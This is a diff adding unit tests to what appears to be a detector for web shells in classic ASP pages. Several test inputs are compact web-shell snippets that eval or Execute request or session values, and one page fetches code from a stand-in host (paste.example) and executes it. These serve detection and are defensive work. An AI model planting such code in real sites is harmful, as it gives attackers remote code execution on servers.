@@ -421,3 +421,68 @@ response.write xml.TransformNode(xsl)
     );
   });
 });
+
+describe('classic ASP: code through a Sub, the session, or the Request object held', () => {
+  it('follows the request through a Sub that runs its argument, on one line or after End Sub', () => {
+    for (const page of [
+      '<%Sub r(x): Execute x: End Sub: r Request("q")%>',
+      '<%\nSub r(x)\n  Execute x\nEnd Sub\nr Request("q")\n%>',
+    ])
+      expect(judge('/inetpub/wwwroot/x.asp', page)).toMatchObject({
+        severity: 'critical',
+        reason: expect.stringMatching(/through r, a function of its own that runs its argument/),
+      });
+    const logger =
+      '<%\nSub log(x)\n  Response.Write Server.HTMLEncode(x)\nEnd Sub\nlog Request("q")\n%>';
+    expect(judge('/inetpub/wwwroot/x.asp', logger)).toBeUndefined();
+  });
+
+  it('ranks code kept in the session and run critical, and a session value shown not', () => {
+    expect(judge('/inetpub/wwwroot/x.asp', '<%eval session("x")%>')).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/code kept in the session or the application \(eval\)/),
+    });
+    const shown = '<%u = Session("user"): If u <> "" Then Response.Write Server.HTMLEncode(u)%>';
+    expect(judge('/inetpub/wwwroot/x.asp', shown)).toBeUndefined();
+  });
+
+  it('reads the Request object held in a name as the request', () => {
+    expect(judge('/inetpub/wwwroot/x.asp', '<%Set x = Request: eval x("c")%>')).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/running the request as code/),
+    });
+    const held = '<%Set x = Request: Response.Write Server.HTMLEncode(x("name"))%>';
+    expect(judge('/inetpub/wwwroot/x.asp', held)).toBeUndefined();
+  });
+});
+
+describe('classic ASP: file browsers and downloaded code', () => {
+  // A page that only sends a file, or only lists a folder, the visitor names is left to the
+  // rules above: applications' own file managers do either (docs/detection.md).
+  it('does not alarm on a download page serving files from its own folder', () => {
+    const page = `<%
+Set s = CreateObject("ADODB.Stream"): s.Open: s.Type = 1
+s.LoadFromFile Server.MapPath("files/" & Replace(Request("f"), "..", ""))
+Set fs = CreateObject("Scripting.FileSystemObject")
+For Each x In fs.GetFolder(Server.MapPath("files")).Files: Response.Write x.Name: Next
+Response.BinaryWrite s.Read
+%>`;
+    expect(judge('/inetpub/wwwroot/download.asp', page)?.severity ?? 'info').not.toMatch(
+      /high|critical/,
+    );
+  });
+
+  it('ranks a page running what it fetches over HTTP critical', () => {
+    const page = `<%
+Set x = CreateObject("Microsoft.XMLHTTP")
+x.open "GET", "http://paste.example/raw/a1", False
+x.send
+code = x.responseText
+Execute code
+%>`;
+    expect(judge('/inetpub/wwwroot/x.asp', page)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/running code it downloads/),
+    });
+  });
+});
